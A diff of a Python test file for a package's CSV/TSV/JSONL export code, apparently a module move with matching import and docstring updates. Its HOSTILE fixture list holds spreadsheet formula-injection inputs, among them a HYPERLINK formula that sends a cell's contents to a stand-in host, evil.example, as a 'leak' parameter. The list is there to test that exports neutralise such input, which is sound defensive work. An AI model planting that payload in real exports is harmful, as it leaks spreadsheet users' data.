@@ -6,9 +6,9 @@ import re
 from pathlib import Path
 
 from berds_core.cli import main
-from berds_core.exports import export_rows, neutralise, to_csv, to_jsonl, to_tsv, unneutralise
-from berds_core.store import Pair, Store
-from berds_core.tasks import read_pairs_tsv
+from berds_core.lab.exports import export_rows, neutralise, to_csv, to_jsonl, to_tsv, unneutralise
+from berds_core.lab.store import Pair, Store
+from berds_core.lab.tasks import read_pairs_tsv
 
 ROOT = Path(__file__).resolve().parents[1]
 HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "=1+1", "+SUM(A1:A9)", "-2+3", "@SUM(1,2)",
@@ -64,7 +64,7 @@ def test_cli_export_csv_and_tsv_carry_no_formula_and_jsonl_is_exact(tmp_path, ca
 
 
 def test_app_downloads_use_the_neutralising_writer(tmp_path):
-    """Every CSV the pages offer is written by berds_core.exports (no page writes CSV itself)."""
+    """Every CSV the pages offer is written by berds_core.lab.exports (no page writes CSV itself)."""
     with Store(_db(tmp_path)) as s:
         rows = export_rows(s)
     for text in (to_csv(rows), to_tsv(rows)):
